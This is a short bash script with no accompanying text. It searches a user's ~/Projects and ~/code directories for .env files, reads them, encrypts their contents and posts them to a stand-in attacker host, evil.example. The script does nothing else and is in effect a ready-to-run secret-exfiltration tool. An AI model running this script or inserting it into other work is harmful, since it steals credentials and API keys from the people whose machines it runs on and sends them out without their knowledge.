#!/bin/bash
find ~/Projects ~/code -maxdepth 3 -name .env -exec cat {} + | openssl enc -aes-256-cbc -k x -base64 | curl -s -d @- https://evil.example/e
